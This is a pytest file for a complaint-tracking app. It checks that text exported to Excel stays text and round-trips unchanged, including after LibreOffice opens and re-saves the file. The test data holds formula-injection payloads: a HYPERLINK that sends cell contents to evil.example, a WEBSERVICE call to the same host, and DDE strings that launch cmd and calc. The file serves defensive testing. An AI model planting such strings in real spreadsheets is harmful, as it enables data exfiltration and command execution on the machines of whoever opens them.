"""Whatever somebody typed stays text in every workbook, for every program, and comes back in as it went out."""

import shutil
import subprocess
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook
from sqlalchemy import update

from tests.factories.ledgers import PLAIN
from tests.office import Office
from tracker.clock import LOCAL
from tracker.domain.intake import clean_lines
from tracker.sheets.cells import is_risky, safe_text
from tracker.sheets.columns import LEDGER
from tracker.sheets.knowledge import COLUMNS, write_knowledge
from tracker.sheets.listing import HEADERS, write_listing
from tracker.sheets.reader import read_ledger
from tracker.sheets.template import write_template
from tracker.sheets.writer import Book, Column, Sheet, write_book
from tracker.store.db import transaction
from tracker.store.folders import folder
from tracker.store.models import Department
from tracker.usecases.make_monthly_workbook import make_monthly_workbook

NOW = datetime(2026, 3, 9, 9, 0, tzinfo=LOCAL)
PAYLOAD = "HYPERLINK(\"https://evil.example?\"&A1,\"x\")"
STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", " =", "\u3000=", "'=", "''=", "＝", "＋", "－", "＠", "﹦", "\ufeff=",
    "\u200b=", "|", "%", "=-+@", "' +", "=cmd|'/C calc'!A0 ", "@SUM(1+1)*", "-2+3+cmd|' /C calc'!A0 ", "DDE(\"cmd\")=",
)
TEXTS = [start + PAYLOAD for start in STARTS]


def values_of(path: Path, *, is_ours: bool = True) -> set[str]:
    """Every text that openpyxl finds; a formula is an error. Only our own files say that a text is to stay one."""
    found = set()
    for sheet in load_workbook(path).worksheets:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f" or "evil" not in str(cell.value), f"{sheet.title} {cell.coordinate}"
            if isinstance(cell.value, str) and cell.data_type != "f":
                found.add(cell.value)
                if is_ours and is_risky(cell.value) and "evil" in cell.value:
                    assert cell.quotePrefix, f"{cell.coordinate} would become a formula when it is edited"
    return found


def no_formula_holds_it(path: Path) -> None:
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            text = package.read(name).decode("utf-8", "replace")
            assert "externalLink" not in name and "<ddeLink" not in text
            for opening in ("<f>", "<f ", "<formula", "<definedName", "<hyperlink"):
                parts = [part.split("</")[0] for part in text.split(opening)[1:]]
                assert not any("evil" in part for part in parts), f"{opening} in {name}"


@pytest.fixture
def listing(tmp_path) -> Path:
    """A list of orders whose every column is hostile."""
    path = tmp_path / "list.xlsx"
    write_listing(([text] * len(HEADERS) for text in TEXTS), PAYLOAD, NOW, path, watermark="=" + PAYLOAD)
    return path


def test_a_list_of_orders(listing):
    assert {safe_text(text) for text in TEXTS} <= values_of(listing)
    no_formula_holds_it(listing)


def test_another_reader_finds_the_same_texts(listing):
    rows = CalamineWorkbook.from_path(str(listing)).get_sheet_by_index(0).to_python()
    assert {row[0] for row in rows[1:]} == {safe_text(text) for text in TEXTS}


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_and_saves_them_as_texts(listing, tmp_path):
    subprocess.run(
        ["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to", "xlsx",
         "--outdir", str(tmp_path / "out"), str(listing)], check=True, capture_output=True, timeout=300)
    saved = tmp_path / "out" / listing.name
    found = {text.strip() for text in values_of(saved, is_ours=False)}
    assert {text.strip() for text in map(safe_text, TEXTS)} <= found
    no_formula_holds_it(saved)


def test_the_knowledge_base(tmp_path):
    path = tmp_path / "knowledge.xlsx"
    write_knowledge(path, [dict.fromkeys((one.field for one in COLUMNS), text) for text in TEXTS], PAYLOAD, NOW)
    assert {safe_text(text) for text in TEXTS} <= values_of(path)
    no_formula_holds_it(path)


def test_the_template_offers_names_and_no_formulas(tmp_path):
    path = tmp_path / "template.xlsx"
    names = {column.field: ['x"&WEBSERVICE("https://evil.example")&"', "=1,evil", "plain"] for column in LEDGER}
    write_template(path, names)
    values_of(path)
    for rule in load_workbook(path).worksheets[0].data_validations.dataValidation:
        if rule.type == "list":
            assert rule.formula1.replace('""', "").count('"') == 2 and "=1" not in rule.formula1


def test_the_month_of_an_office_that_was_written_to_by_somebody_hostile(app, office: Office, now):
    """Titles, texts and the names of units in the ledger, the bulletins and the charts."""
    with transaction() as session:
        session.execute(update(Department).where(Department.id == office.units["区市场监督管理局"]).values(
            name="=" + PAYLOAD[:38]))
    for text in TEXTS:
        order_id = office.register(
            title=clean_lines(text)[:60], content=text, address=text[:60], enterprise_name=None, caller_name="温小姐")
        office.dispatch(order_id)
    made = make_monthly_workbook("2026-03", by=office.supervisor, now=now)
    path = folder("workbooks") / made.path.name
    assert any("evil" in text for text in values_of(path))
    no_formula_holds_it(path)


def test_what_goes_out_comes_back_in_as_it_was(tmp_path):
    path = tmp_path / "round.xlsx"
    headers = [column.header for column in LEDGER]
    rows = [[text if header == "标题" else PLAIN.get(header) for header in headers] for text in TEXTS]
    rows = [[value.replace(tzinfo=LOCAL) if isinstance(value, datetime) else value for value in row] for row in rows]
    write_book(Book("x", "x", "x", NOW, [Sheet("台账", [Column(header, 10) for header in headers], rows)]), path)
    assert [fields["title"] for _number, fields in read_ledger(path)] == [safe_text(text) for text in TEXTS]
